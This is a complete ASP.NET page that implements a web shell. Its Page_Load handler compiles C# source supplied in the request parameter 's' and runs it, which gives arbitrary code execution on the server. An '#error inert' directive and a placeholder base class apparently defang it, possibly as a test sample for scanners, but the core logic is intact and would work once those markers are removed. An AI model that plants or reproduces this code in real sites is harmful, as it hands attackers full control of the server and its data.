<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var r=new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(),Request["s"]); r.CompiledAssembly.GetType("A").GetMethod("M").Invoke(null,null); }
</script>
